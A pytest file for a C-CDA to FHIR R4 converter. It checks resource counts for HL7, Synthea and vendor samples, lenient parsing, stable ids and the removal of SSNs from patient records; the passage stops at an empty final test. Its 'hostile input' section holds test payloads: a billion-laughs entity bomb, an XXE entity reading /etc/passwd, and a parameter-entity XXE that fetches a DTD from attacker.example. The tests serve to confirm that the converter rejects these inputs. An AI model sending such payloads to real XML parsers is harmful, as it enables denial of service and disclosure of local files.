"""C-CDA -> FHIR R4 (interop/ccda): the shared samples, leniency, and hostile input.

Resources per shared sample (``../shared/data/ccda/``), as asserted in EXPECTED below:

| file                                             | Pat | Cond | Med | Allergy | Imm | Obs | Enc | Pract | Org | Team |
|--------------------------------------------------|----:|-----:|----:|--------:|----:|----:|----:|------:|----:|-----:|
| hl7-examples/CCD_1.xml                           |   1 |    4 |   2 |       2 |   5 |   8 |   1 |     2 |   4 |    1 |
| hl7-examples/Care_Plan.xml                       |   1 |    0 |   0 |       0 |   0 |   0 |   1 |     2 |   3 |    1 |
| hl7-examples/Consultation_Note.xml               |   1 |    4 |   2 |       2 |   0 |   8 |   1 |     1 |   2 |    0 |
| hl7-examples/Discharge_Summary.xml               |   1 |    3 |   1 |       3 |   2 |   4 |   1 |     3 |   2 |    1 |
| hl7-examples/History_and_Physical.xml            |   1 |    2 |   1 |       3 |   4 |   6 |   1 |     2 |   2 |    0 |
| hl7-examples/Operative_Note.xml                  |   1 |    0 |   0 |       0 |   0 |   0 |   0 |     2 |   2 |    1 |
| hl7-examples/Procedure_Note.xml                  |   1 |    0 |   0 |       0 |   0 |   0 |   1 |     3 |   3 |    1 |
| hl7-examples/Referral_Note.xml                   |   1 |    4 |   2 |       2 |   0 |   8 |   0 |     1 |   2 |    0 |
| synthea/Angelina101_Barton704_...                |   1 |    7 |   0 |       0 |  32 |   7 |  15 |     0 |   1 |    0 |
| synthea/Cornelia505_Cummerata161_...             |   1 |    5 |   0 |       0 |  32 |   7 |  15 |     0 |   1 |    0 |
| synthea/Golda777_Huel628_...                     |   1 |    8 |   0 |       0 |  18 |   7 |  10 |     0 |   1 |    0 |
| synthea/Lisandra920_Schroeder447_...             |   1 |    8 |   0 |       0 |  36 |   7 |  19 |     0 |   1 |    0 |
| synthea/Reginia455_Spinka232_...                 |   1 |    8 |   0 |       0 |  23 |   7 |   9 |     0 |   1 |    0 |
| vendor-samples/Allscripts_MU2_AMB_Patient6_...   |   1 |    2 |   2 |       1 |   1 |  15 |   3 |     3 |   1 |    1 |
| vendor-samples/Allscripts_MU2_InPt_Patient3_...  |   1 |    2 |   2 |       0 |   1 |  15 |   3 |     2 |   1 |    1 |
| vendor-samples/Cerner_Transition_of_Care_...     |   1 |    5 |   4 |       2 |   1 |   7 |   1 |     3 |   1 |    1 |
| vendor-samples/Greenway_26562_ExportSummary_...  |   1 |    4 |   3 |       3 |   1 |  15 |   0 |     3 |   1 |    1 |
| vendor-samples/Kinsights_timmy.xml               |   1 |   14 |   2 |       1 |  19 |  35 |   0 |     2 |   2 |    1 |
| vendor-samples/PracticeFusion_MaryGrant-...      |   1 |    0 |   3 |       2 |   0 |   5 |   2 |     4 |   2 |    1 |

Why some counts are 0 or lower than the entries in the file: Synthea's juvenile CCDs have empty
(nullFlavor) allergy and medication sections, and only the last vital-signs organizer (its coded
lab results are not vital signs and are left out); Allscripts InPt and PracticeFusion state
"no known allergies / problems" with negated entries; PracticeFusion fills missing vitals with 0
and states "no immunizations given" (both left out); Operative/Procedure/Care Plan notes have no
problem, medication, allergy, immunization or vital-sign sections.
"""

from __future__ import annotations

import json
import os
import re
import time
from collections import Counter
from pathlib import Path

import pytest
from django.conf import settings
from fhir.resources.R4B import get_fhir_model_class
from fhir.resources.R4B.bundle import Bundle

from interop import ccda
from interop.ccda import CcdaError, ccda_to_bundle, datatypes, document_type

DATA = (
    Path(os.environ.get("HOMEBASE_SHARED_DATA", Path(settings.BASE_DIR).parent / "shared" / "data"))
    / "ccda"
)
SAMPLES = sorted(p.relative_to(DATA).as_posix() for p in DATA.glob("*/*.xml"))
needs_samples = pytest.mark.skipif(not SAMPLES, reason=f"no shared C-CDA samples in {DATA}")

TYPES = (
    "Patient",
    "Condition",
    "MedicationStatement",
    "AllergyIntolerance",
    "Immunization",
    "Observation",
    "Encounter",
    "Practitioner",
    "Organization",
    "CareTeam",
)
# file, then the count of each of TYPES
EXPECTED_TABLE = """
hl7-examples/CCD_1.xml                    1  4 2 2  5  8  1 2 4 1
hl7-examples/Care_Plan.xml                1  0 0 0  0  0  1 2 3 1
hl7-examples/Consultation_Note.xml        1  4 2 2  0  8  1 1 2 0
hl7-examples/Discharge_Summary.xml        1  3 1 3  2  4  1 3 2 1
hl7-examples/History_and_Physical.xml     1  2 1 3  4  6  1 2 2 0
hl7-examples/Operative_Note.xml           1  0 0 0  0  0  0 2 2 1
hl7-examples/Procedure_Note.xml           1  0 0 0  0  0  1 3 3 1
hl7-examples/Referral_Note.xml            1  4 2 2  0  8  0 1 2 0
synthea/Angelina101_Barton704_f19307b9-86f8-b922-6327-d459dba22815.xml      1 7 0 0 32 7 15 0 1 0
synthea/Cornelia505_Cummerata161_484e08ea-fad1-beb6-a674-183e761f0c53.xml   1 5 0 0 32 7 15 0 1 0
synthea/Golda777_Huel628_e9d367ea-e7a1-2044-f4b8-5eb7cf0e6974.xml           1 8 0 0 18 7 10 0 1 0
synthea/Lisandra920_Schroeder447_5391757e-f451-f2fe-d2f0-90a839d4d9c4.xml   1 8 0 0 36 7 19 0 1 0
synthea/Reginia455_Spinka232_826ca5cc-786f-e0a7-24f9-47d60fe96ab5.xml       1 8 0 0 23 7  9 0 1 0
vendor-samples/Allscripts_MU2_AMB_Patient6_SummaryOfCare.xml      1  2 2 1  1 15  3 3 1 1
vendor-samples/Allscripts_MU2_InPt_Patient3_CCD.xml               1  2 2 0  1 15  3 2 1 1
vendor-samples/Cerner_Transition_of_Care_Referral_Summary.xml     1  5 4 2  1  7  1 3 1 1
vendor-samples/Greenway_26562_ExportSummary_CCDA.xml              1  4 3 3  1 15  0 3 1 1
vendor-samples/Kinsights_timmy.xml                                1 14 2 1 19 35  0 2 2 1
vendor-samples/PracticeFusion_MaryGrant-ClinicalSummary.xml       1  0 3 2  0  5  2 4 2 1
"""
EXPECTED = {
    line.split()[0]: tuple(int(n) for n in line.split()[1:])
    for line in EXPECTED_TABLE.strip().splitlines()
}
DOCUMENT_NAMES = {
    "hl7-examples/CCD_1.xml": "Continuity of Care Document (CCD)",
    "hl7-examples/Care_Plan.xml": "Care Plan",
    "hl7-examples/Consultation_Note.xml": "Consultation Note",
    "hl7-examples/Discharge_Summary.xml": "Discharge Summary",
    "hl7-examples/History_and_Physical.xml": "History and Physical",
    "hl7-examples/Operative_Note.xml": "Operative Note",
    "hl7-examples/Procedure_Note.xml": "Procedure Note",
    "hl7-examples/Referral_Note.xml": "Referral Note",
}
VITAL_LOINC = {"29463-7", "8302-2", "9843-4", "8310-5", "8867-4", "2708-6", "59408-5"}

_cache: dict[str, dict] = {}


def convert(rel: str) -> dict:
    if rel not in _cache:
        _cache[rel] = ccda_to_bundle((DATA / rel).read_bytes())
    return _cache[rel]


def resources(bundle: dict, rtype: str | None = None) -> list[dict]:
    return [
        e["resource"] for e in bundle["entry"] if rtype in (None, e["resource"]["resourceType"])
    ]


def counts(bundle: dict) -> tuple[int, ...]:
    c = Counter(r["resourceType"] for r in resources(bundle))
    assert set(c) <= set(TYPES), set(c) - set(TYPES)
    return tuple(c[t] for t in TYPES)


def references(value) -> list[str]:
    if isinstance(value, dict):
        found = [value["reference"]] if isinstance(value.get("reference"), str) else []
        return found + [r for v in value.values() for r in references(v)]
    if isinstance(value, list):
        return [r for v in value for r in references(v)]
    return []


def loinc_codes(resource: dict, key: str = "code") -> set[str]:
    return {c.get("code") for c in resource.get(key, {}).get("coding", [])}


# ------------------------------------------------------------------------------------------
# the shared samples
# ------------------------------------------------------------------------------------------


@needs_samples
def test_every_shared_sample_is_known():
    assert set(SAMPLES) == set(EXPECTED), "a sample was added or removed: update EXPECTED"


@needs_samples
@pytest.mark.parametrize("rel", sorted(EXPECTED))
def test_sample_converts_and_validates_with_fhir_resources(rel):
    bundle = convert(rel)
    Bundle.model_validate(bundle)
    for resource in resources(bundle):
        get_fhir_model_class(resource["resourceType"]).model_validate(resource)
    assert bundle["type"] == "collection"
    assert counts(bundle) == EXPECTED[rel]


@needs_samples
@pytest.mark.parametrize("rel", sorted(EXPECTED))
def test_sample_references_resolve_and_ids_are_unique(rel):
    bundle = convert(rel)
    full_urls = [e["fullUrl"] for e in bundle["entry"]]
    assert len(full_urls) == len(set(full_urls))
    for entry in bundle["entry"]:
        assert entry["fullUrl"] == f"urn:uuid:{entry['resource']['id']}"
    patient = resources(bundle, "Patient")[0]
    for resource in resources(bundle):
        assert resource["meta"]["source"] == bundle["meta"]["source"]
        for reference in references(resource):
            assert reference in full_urls, (resource["resourceType"], reference)
        for key in ("subject", "patient"):
            if key in resource:
                assert resource[key]["reference"] == f"urn:uuid:{patient['id']}"


@needs_samples
@pytest.mark.parametrize("rel", sorted(EXPECTED))
def test_converting_twice_gives_identical_output(rel):
    data = (DATA / rel).read_bytes()
    assert json.dumps(ccda_to_bundle(data)) == json.dumps(ccda_to_bundle(data))


@needs_samples
def test_ids_are_pinned():
    """Ids derive from the C-CDA ids with a fixed namespace: changing them breaks idempotence."""
    bundle = convert("hl7-examples/CCD_1.xml")
    assert resources(bundle, "Patient")[0]["id"] == "f857bb13-9eca-5e64-879c-6cb08b76400f"
    assert bundle["identifier"] == {
        "system": "urn:oid:2.16.840.1.113883.19.5.99999.1",
        "value": "TT988",
    }
    assert bundle["meta"]["source"] == "urn:oid:2.16.840.1.113883.19.5.99999.1"


@needs_samples
@pytest.mark.parametrize("rel", sorted(DOCUMENT_NAMES))
def test_document_type_of_hl7_examples(rel):
    bundle = convert(rel)
    assert document_type(bundle)["name"] == DOCUMENT_NAMES[rel]
    assert bundle["meta"]["tag"][-1]["display"] == DOCUMENT_NAMES[rel]  # interop.reader reads this


@needs_samples
def test_document_type_of_synthea_prefers_the_template_matching_the_code():
    # Synthea declares both the CCD and the Diagnostic Imaging Report templates; code 34133-9
    bundle = convert(SAMPLES[[s.startswith("synthea/") for s in SAMPLES].index(True)])
    assert document_type(bundle) == {
        "template": "2.16.840.1.113883.10.20.22.1.2",
        "name": "Continuity of Care Document (CCD)",
        "loinc": "34133-9",
    }


@needs_samples
@pytest.mark.parametrize("rel", [s for s in sorted(EXPECTED) if s.startswith("synthea/")])
def test_synthea_children_have_immunizations_vitals_and_visits(rel):
    bundle = convert(rel)
    patient = resources(bundle, "Patient")[0]
    assert patient["birthDate"] >= "2006"
    immunizations = resources(bundle, "Immunization")
    assert immunizations and all(i["status"] == "completed" for i in immunizations)
    assert all("http://hl7.org/fhir/sid/cvx" in str(i["vaccineCode"]) for i in immunizations)
    vitals = resources(bundle, "Observation")
    assert {c for o in vitals for c in loinc_codes(o)} & VITAL_LOINC
    assert all(o["valueQuantity"]["value"] > 0 for o in vitals)
    assert resources(bundle, "Encounter")
    assert bundle["meta"]["source"] == "urn:oid:2.16.840.1.113883.19.5"


@needs_samples
def test_kinsights_growth_chart():
    bundle = convert("vendor-samples/Kinsights_timmy.xml")
    codes = Counter(c for o in resources(bundle, "Observation") for c in loinc_codes(o))
    # Kinsights codes weight as 3141-9 and head circumference as 8287-5; the FHIR base codes
    # are added next to them
    assert codes["29463-7"] == codes["3141-9"] == 10  # weight
    assert codes["8302-2"] == 12  # height
    assert codes["9843-4"] == codes["8287-5"] == 2  # head circumference
    weight = next(o for o in resources(bundle, "Observation") if "29463-7" in loinc_codes(o))
    assert weight["valueQuantity"]["code"] == "[lb_av]"
    assert weight["category"][0]["coding"][0]["code"] == "vital-signs"
    patient = resources(bundle, "Patient")[0]
    assert patient["contact"][0]["name"]["given"] == ["Jackson"]  # the guardian


@needs_samples
def test_ccd_clinical_content():
    bundle = convert("hl7-examples/CCD_1.xml")
    albuterol = resources(bundle, "MedicationStatement")[0]
    assert "573621" in str(albuterol["medicationCodeableConcept"])
    assert albuterol["status"] == "active"
    assert albuterol["effectivePeriod"] == {"start": "2011-01-03"}
    assert albuterol["reasonCode"][0]["text"] == "Asthma"
    penicillin = resources(bundle, "AllergyIntolerance")[0]
    assert penicillin["code"]["text"] == "Penicillin"
    assert penicillin["category"] == ["medication"]
    assert penicillin["reaction"][0]["manifestation"][0]["text"] == "Nausea"
    statuses = Counter(i["status"] for i in resources(bundle, "Immunization"))
    assert statuses == {"completed": 3, "not-done": 2}
    resolved = [
        c
        for c in resources(bundle, "Condition")
        if c["clinicalStatus"]["coding"][0]["code"] == "resolved"
    ]
    assert [(c["onsetDateTime"], c["abatementDateTime"]) for c in resolved] == [
        ("1998-03-10", "1998-03-16")
    ]
    team = resources(bundle, "CareTeam")[0]
    assert team["participant"][0]["role"][0]["coding"][0]["code"] == "PCP"
    pcp = next(r for r in resources(bundle, "Practitioner"))
    assert {"system": "http://hl7.org/fhir/sid/us-npi", "value": "5555555555"} in pcp["identifier"]
    assert resources(bundle, "Patient")[0]["generalPractitioner"] == [
        {"reference": f"urn:uuid:{pcp['id']}"}
    ]


@needs_samples
def test_encompassing_encounter_and_its_entry_become_one_encounter():
    bundle = convert("vendor-samples/Cerner_Transition_of_Care_Referral_Summary.xml")
    (encounter,) = resources(bundle, "Encounter")
    assert encounter["type"][0]["text"] == "Inpatient"
    assert len(encounter["participant"]) == 3
    assert encounter["period"]["start"] == "2013-07-10T21:44:00.000-05:00"


# ------------------------------------------------------------------------------------------
# leniency, on small synthetic documents
# ------------------------------------------------------------------------------------------

PATIENT = """
<recordTarget><patientRole>
  <id root="2.16.840.1.113883.19.5" extension="P-1"/>
  <id root="2.16.840.1.113883.4.1" extension="999-12-3456"/>
  <patient><name use="L"><given>Maya</given><family>Test</family></name>
    <administrativeGenderCode code="F" codeSystem="2.16.840.1.113883.5.1"/>
    <birthTime value="20150304"/></patient>
</patientRole></recordTarget>"""


def document(
    sections: str = "",
    *,
    templates=("2.16.840.1.113883.10.20.22.1.1", "2.16.840.1.113883.10.20.22.1.2"),
    code: str = "34133-9",
    doc_id: str = '<id root="1.2.3.4.5" extension="DOC-1"/>',
    patient: str = PATIENT,
    effective: str = "20240101",
) -> bytes:
    template_xml = "".join(f'<templateId root="{t}"/>' for t in templates)
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<ClinicalDocument xmlns="urn:hl7-org:v3" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
  <typeId root="2.16.840.1.113883.1.3" extension="POCD_HD000040"/>
  {template_xml}{doc_id}
  <code code="{code}" codeSystem="2.16.840.1.113883.6.1"/>
  <title>Test</title><effectiveTime value="{effective}"/>
  {patient}
  <custodian><assignedCustodian><representedCustodianOrganization>
    <id root="1.2.3.4" extension="C"/><name>Clinic</name>
  </representedCustodianOrganization></assignedCustodian></custodian>
  <component><structuredBody>{sections}</structuredBody></component>
</ClinicalDocument>""".encode()


def section(template: str, entries: str, text: str = "") -> str:
    return (
        f'<component><section><templateId root="{template}"/>'
        f"<text>{text}</text>{entries}</section></component>"
    )


def vital(code: str, value: str, unit: str, when: str, ident: str = "") -> str:
    return f"""<component><observation classCode="OBS" moodCode="EVN">
      <templateId root="2.16.840.1.113883.10.20.22.4.27"/>{ident}
      <code code="{code}" codeSystem="2.16.840.1.113883.6.1"/>
      <statusCode code="completed"/><effectiveTime value="{when}"/>
      <value xsi:type="PQ" value="{value}" unit="{unit}"/></observation></component>"""


def vitals_section(components: str, template="2.16.840.1.113883.10.20.22.2.4.1") -> str:
    return section(
        template,
        f"""<entry><organizer classCode="CLUSTER" moodCode="EVN">
        <templateId root="2.16.840.1.113883.10.20.22.4.26"/>
        <statusCode code="completed"/><effectiveTime value="20240101"/>{components}
        </organizer></entry>""",
    )


def convert_and_validate(data: bytes) -> dict:
    bundle = ccda_to_bundle(data)
    Bundle.model_validate(bundle)
    for resource in resources(bundle):
        get_fhir_model_class(resource["resourceType"]).model_validate(resource)
    return bundle


def test_timestamps_keep_precision_and_offsets():
    sections = vitals_section(
        vital("29463-7", "12.5", "kg", "201309151030-0500")
        + vital("8302-2", "90", "cm", "20130915103000")  # a time without an offset
        + vital("9843-4", "45.2", "cm", "201309")
        + vital("8310-5", "37.1", "Cel", "2013")
        + vital("8867-4", "88", "/min", "-08")  # garbage: falls back to the organizer's time
        + vital("2708-6", "0", "%", "2013")  # a zero is a placeholder, not a measurement
    )
    observations = resources(convert_and_validate(document(sections)), "Observation")
    assert [o["effectiveDateTime"] for o in observations] == [
        "2013-09-15T10:30:00-05:00",
        "2013-09-15",
        "2013-09",
        "2013",
        "2024-01-01",
    ]
    assert observations[0]["valueQuantity"] == {
        "value": 12.5,
        "unit": "kg",
        "system": "http://unitsofmeasure.org",
        "code": "kg",
    }


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("2015", "2015"),
        ("201503", "2015-03"),
        ("20150304", "2015-03-04"),
        ("201503041230+0100", "2015-03-04T12:30:00+01:00"),
        ("20150304123045.25-0800", "2015-03-04T12:30:45.25-08:00"),
        ("20150304123045", "2015-03-04"),
        ("20151304", None),
        ("2015-03-04", None),
        ("", None),
        ("-08", None),
    ],
)
def test_ts_to_fhir(value, expected):
    assert datatypes.ts_to_fhir(value) == expected


def test_missing_codes_fall_back_to_original_text_display_name_and_narrative():
    problems = section(
        "2.16.840.1.113883.10.20.22.2.5.1",
        """
        <entry><act classCode="ACT" moodCode="EVN"><templateId root="2.16.840.1.113883.10.20.22.4.3"/>
          <id root="1.2.3.4.5.6" extension="act-1"/><statusCode code="active"/>
          <entryRelationship typeCode="SUBJ"><observation classCode="OBS" moodCode="EVN">
            <templateId root="2.16.840.1.113883.10.20.22.4.4"/><id root="1.2.3.4.5.7" extension="p1"/>
            <code nullFlavor="UNK"/>
            <effectiveTime><low value="2011"/><high value="201203"/></effectiveTime>
            <value xsi:type="CD" nullFlavor="OTH"><originalText><reference value="#p1"/></originalText></value>
          </observation></entryRelationship></act></entry>
        <entry><act classCode="ACT" moodCode="EVN"><templateId root="2.16.840.1.113883.10.20.22.4.3"/>
          <entryRelationship typeCode="SUBJ"><observation classCode="OBS" moodCode="EVN">
            <templateId root="2.16.840.1.113883.10.20.22.4.4"/>
            <text><reference value="#p2"/></text><effectiveTime><low nullFlavor="UNK"/></effectiveTime>
            <value xsi:type="CD" nullFlavor="UNK"/>
          </observation></entryRelationship></act></entry>
        <entry><act classCode="ACT" moodCode="EVN"><templateId root="2.16.840.1.113883.10.20.22.4.3"/>
          <entryRelationship typeCode="SUBJ"><observation classCode="OBS" moodCode="EVN">
            <templateId root="2.16.840.1.113883.10.20.22.4.4"/><effectiveTime value="20200101"/>
            <value xsi:type="CD" code="J45.909" codeSystem="2.16.840.1.113883.6.90" displayName="Asthma"/>
          </observation></entryRelationship></act></entry>
        <entry><act classCode="ACT" moodCode="EVN"><templateId root="2.16.840.1.113883.10.20.22.4.3"/>
          <entryRelationship typeCode="SUBJ"><observation classCode="OBS" moodCode="EVN" negationInd="true">
            <templateId root="2.16.840.1.113883.10.20.22.4.4"/>
            <value xsi:type="CD" code="55607006" codeSystem="2.16.840.1.113883.6.96"/>
          </observation></entryRelationship></act></entry>""",
        text='<list><item ID="p1">Peanut  allergy\n rash</item><item ID="p2">Eczema</item></list>',
    )
    conditions = resources(convert_and_validate(document(problems)), "Condition")
    assert [c["code"] for c in conditions] == [
        {"text": "Peanut allergy rash"},
        {"text": "Eczema"},
        {
            "coding": [
                {
                    "system": "http://hl7.org/fhir/sid/icd-10-cm",
                    "code": "J45.909",
                    "display": "Asthma",
                }
            ],
            "text": "Asthma",
        },
    ]
    first = conditions[0]
    assert (first["onsetDateTime"], first["abatementDateTime"]) == ("2011", "2012-03")
    assert first["clinicalStatus"]["coding"][0]["code"] == "resolved"
    assert conditions[2]["clinicalStatus"]["coding"][0]["code"] == "active"
    assert {"system": "urn:oid:1.2.3.4.5.7", "value": "p1"} in first["identifier"]


def test_sections_without_the_entries_required_suffix_and_immunization_variants():
    immunizations = section(
        "2.16.840.1.113883.10.20.22.2.2",  # the "entries optional" template, without .1
        """
        <entry><substanceAdministration classCode="SBADM" moodCode="EVN">
          <id root="5f0b0d9a-0000-4000-8000-000000000001"/><statusCode code="completed"/>
          <effectiveTime value="20160101"/><repeatNumber value="2"/>
          <consumable><manufacturedProduct><manufacturedMaterial><code nullFlavor="UNK"/>
            <name>MMR</name><lotNumberText>LOT9</lotNumberText></manufacturedMaterial></manufacturedProduct></consumable>
        </substanceAdministration></entry>
        <entry><substanceAdministration classCode="SBADM" moodCode="INT">
          <consumable><manufacturedProduct><manufacturedMaterial>
            <code code="03" codeSystem="2.16.840.1.113883.12.292"/></manufacturedMaterial></manufacturedProduct></consumable>
        </substanceAdministration></entry>
        <entry><substanceAdministration classCode="SBADM" moodCode="EVN" negationInd="true">
          <effectiveTime><low value="2017"/></effectiveTime>
          <consumable><manufacturedProduct><manufacturedMaterial>
            <code code="88" codeSystem="2.16.840.1.113883.12.292" displayName="influenza"/></manufacturedMaterial></manufacturedProduct></consumable>
        </substanceAdministration></entry>
        <entry><substanceAdministration classCode="SBADM" moodCode="EVN" negationInd="true">
          <consumable><manufacturedProduct><manufacturedMaterial><code nullFlavor="NA"/>
          </manufacturedMaterial></manufacturedProduct></consumable>
          <text>No immunizations given</text>
        </substanceAdministration></entry>""",
    )
    given, refused = resources(convert_and_validate(document(immunizations)), "Immunization")
    assert given["vaccineCode"] == {"text": "MMR"}
    assert given["occurrenceDateTime"] == "2016-01-01"
    assert given["lotNumber"] == "LOT9"
    assert given["protocolApplied"] == [{"doseNumberPositiveInt": 2}]
    assert given["status"] == "completed"
    assert refused["status"] == "not-done"
    assert refused["occurrenceDateTime"] == "2017"


def test_medication_allergy_and_care_team():
    author = """<author><time value="20200101"/><assignedAuthor>
        <id root="2.16.840.1.113883.4.6" extension="1234567893"/>
        <assignedPerson><name><given>Ana</given><family>Ruiz</family></name></assignedPerson>
        <representedOrganization><name>Kids Clinic</name></representedOrganization>
      </assignedAuthor></author>"""
    meds = section(
        "2.16.840.1.113883.10.20.22.2.1",
        f"""<entry><substanceAdministration classCode="SBADM" moodCode="EVN">
          <id root="1.2.3.9" extension="m1"/><text>2 puffs every 4 hours as needed</text>
          <statusCode code="completed"/>
          <effectiveTime xsi:type="IVL_TS"><low value="20200101"/><high value="20200301"/></effectiveTime>
          <effectiveTime xsi:type="PIVL_TS" operator="A"><period value="4" unit="h"/></effectiveTime>
          <consumable><manufacturedProduct><manufacturedMaterial>
            <code code="745679" codeSystem="2.16.840.1.113883.6.88" displayName="albuterol inhaler"/>
          </manufacturedMaterial></manufacturedProduct></consumable>{author}
        </substanceAdministration></entry>""",
    )
    allergies = section(
        "2.16.840.1.113883.10.20.22.2.6.1",
        """<entry><act classCode="ACT" moodCode="EVN"><statusCode code="active"/>
          <entryRelationship typeCode="SUBJ"><observation classCode="OBS" moodCode="EVN">
            <templateId root="2.16.840.1.113883.10.20.22.4.7"/><id root="1.2.3.10" extension="a1"/>
            <value xsi:type="CD" code="414285001" codeSystem="2.16.840.1.113883.6.96"/>
            <participant typeCode="CSM"><participantRole><playingEntity>
              <code nullFlavor="OTH"><originalText>Peanuts</originalText></code></playingEntity></participantRole></participant>
            <entryRelationship typeCode="MFST"><observation classCode="OBS" moodCode="EVN">
              <templateId root="2.16.840.1.113883.10.20.22.4.9"/>
              <value xsi:type="CD" code="39579001" codeSystem="2.16.840.1.113883.6.96" displayName="Anaphylaxis"/>
              <entryRelationship typeCode="SUBJ"><observation classCode="OBS" moodCode="EVN">
                <templateId root="2.16.840.1.113883.10.20.22.4.8"/>
                <value xsi:type="CD" code="24484000" codeSystem="2.16.840.1.113883.6.96"/></observation></entryRelationship>
            </observation></entryRelationship>
          </observation></entryRelationship></act></entry>
        <entry><act classCode="ACT" moodCode="EVN">
          <entryRelationship typeCode="SUBJ"><observation classCode="OBS" moodCode="EVN" negationInd="true">
            <value xsi:type="CD" code="419199007" codeSystem="2.16.840.1.113883.6.96"/>
          </observation></entryRelationship></act></entry>""",
    )
    bundle = convert_and_validate(document(meds + allergies))
    (statement,) = resources(bundle, "MedicationStatement")
    (practitioner,) = resources(bundle, "Practitioner")
    assert statement["status"] == "completed"
    assert statement["effectivePeriod"] == {"start": "2020-01-01", "end": "2020-03-01"}
    assert statement["dosage"][0]["text"] == "2 puffs every 4 hours as needed"
    assert statement["dosage"][0]["timing"]["repeat"] == {
        "frequency": 1,
        "period": 4,
        "periodUnit": "h",
    }
    assert statement["informationSource"] == {"reference": f"urn:uuid:{practitioner['id']}"}
    assert practitioner["identifier"] == [
        {"system": "http://hl7.org/fhir/sid/us-npi", "value": "1234567893"}
    ]
    assert [o["name"] for o in resources(bundle, "Organization")] == ["Clinic", "Kids Clinic"]
    (allergy,) = resources(bundle, "AllergyIntolerance")
    assert allergy["code"] == {"text": "Peanuts"}
    assert (allergy["type"], allergy["category"], allergy["criticality"]) == (
        "allergy",
        ["food"],
        "high",
    )
    assert allergy["reaction"][0]["severity"] == "severe"


def test_patient_never_carries_a_social_security_number():
    bundle = convert_and_validate(document())
    (patient,) = resources(bundle, "Patient")
    assert "999-12-3456" not in json.dumps(bundle)
    assert patient["identifier"] == [{"system": "urn:oid:2.16.840.1.113883.19.5", "value": "P-1"}]
    assert patient["name"] == [{"family": "Test", "given": ["Maya"], "use": "official"}]
    assert (patient["gender"], patient["birthDate"]) == ("female", "2015-03-04")


def test_ids_depend_on_the_ccda_ids_not_on_the_document_around_them():
    """A newer export of the same source gives the same ids: the importer updates, not adds."""
    entry = vital("29463-7", "12.5", "kg", "20130915", '<id root="1.2.3.4.5" extension="w-1"/>')
    first = ccda_to_bundle(document(vitals_section(entry), effective="20240101"))
    newer = ccda_to_bundle(
        document(
            vitals_section(entry.replace("12.5", "12.6")),
            effective="20250101",
            doc_id='<id root="1.2.3.4.5" extension="DOC-2"/>',
        )
    )
    ids = [[r["id"] for r in resources(b, t)] for b in (first, newer) for t in ("Patient",)]
    assert ids[0] == ids[1]
    assert resources(first, "Observation")[0]["id"] == resources(newer, "Observation")[0]["id"]
    assert first["meta"]["source"] == newer["meta"]["source"] == "urn:oid:1.2.3.4.5"
    assert first["id"] != newer["id"]  # the bundle is the document


def test_entries_without_ids_still_get_stable_ids():
    encounter = section(
        "2.16.840.1.113883.10.20.22.2.22",
        """<entry><encounter classCode="ENC" moodCode="EVN">
          <code code="99213" codeSystem="2.16.840.1.113883.6.12" displayName="Office visit"/>
          <effectiveTime><low value="20230405"/></effectiveTime></encounter></entry>""",
    )
    first = ccda_to_bundle(document(encounter))
    second = ccda_to_bundle(document(encounter, effective="20250101"))
    assert resources(first, "Encounter")[0]["id"] == resources(second, "Encounter")[0]["id"]
    assert resources(first, "Encounter")[0]["period"] == {"start": "2023-04-05"}


def test_source_falls_back_to_the_custodian_when_the_document_id_is_a_uuid():
    bundle = ccda_to_bundle(document(doc_id='<id root="9b54c3c9-1673-49c7-aef9-b037ed72ed27"/>'))
    assert bundle["meta"]["source"] == "urn:oid:1.2.3.4/C"


@pytest.mark.parametrize(
    ("templates", "code", "name"),
    [
        (
            ("2.16.840.1.113883.10.20.22.1.1", "2.16.840.1.113883.10.20.22.1.14"),
            "57133-1",
            "Referral Note",
        ),
        (("2.16.840.1.113883.10.20.22.1.1",), "18842-5", "Discharge Summary"),
        (("2.16.840.1.113883.10.20.22.1.1",), "99999-9", "C-CDA document (US Realm Header)"),
    ],
)
def test_document_type_from_template_or_code(templates, code, name):
    bundle = ccda_to_bundle(document(templates=templates, code=code))
    assert document_type(bundle)["name"] == name


# ------------------------------------------------------------------------------------------
# hostile and wrong input
# ------------------------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<ClinicalDocument xmlns="urn:hl7-org:v3"><title>&lol9;</title></ClinicalDocument>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE ClinicalDocument [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<ClinicalDocument xmlns="urn:hl7-org:v3">
  <templateId root="2.16.840.1.113883.10.20.22.1.1"/><title>&xxe;</title>
</ClinicalDocument>"""

PARAMETER_XXE = b"""<?xml version="1.0"?>
<!DOCTYPE ClinicalDocument [ <!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote; ]>
<ClinicalDocument xmlns="urn:hl7-org:v3"/>"""


def test_entity_bomb_is_refused_without_expanding():
    started = time.monotonic()
    with pytest.raises(CcdaError, match=r"entity bomb.*billion laughs"):
        ccda_to_bundle(BILLION_LAUGHS)
    assert time.monotonic() - started < 1


@pytest.mark.parametrize("data", [XXE, PARAMETER_XXE], ids=["general", "parameter"])
def test_external_entity_is_refused(data):
    with pytest.raises(CcdaError, match=r"external entity \(an “XXE” attack"):
        ccda_to_bundle(data)


def test_doctype_is_refused():
